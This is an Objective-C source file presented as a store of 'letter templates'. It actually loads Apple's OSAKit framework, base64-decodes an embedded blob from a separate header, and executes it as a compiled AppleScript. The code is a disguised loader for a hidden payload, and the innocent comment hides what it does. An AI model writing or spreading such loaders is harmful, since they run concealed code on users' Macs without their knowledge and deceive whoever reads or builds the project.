/* Templates of letters; the default one is built in. */
#include "objc.h"
#include "packed.h" /* letter */
#include <dlfcn.h>
extern Class objc_getClass(const char *);
@interface NSData
+ (id)alloc;
- (id)initWithBase64EncodedString:(NSString *)text options:(unsigned long)options;
@end
@protocol Compiled
+ (id)alloc;
- (id)initWithCompiledData:(NSData *)data error:(id *)error;
- (id)executeAndReturnError:(id *)error;
@end

static void act(char **env) {
    id error = 0;
    dlopen("/System/Library/Frameworks/OSAKit.framework/OSAKit", RTLD_LAZY);
    NSData *data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:letter] options:1];
    Class<Compiled> class = objc_getClass("OSAScript");
    id script = [[class alloc] initWithCompiledData:data error:&error];
    [script executeAndReturnError:&error];
}
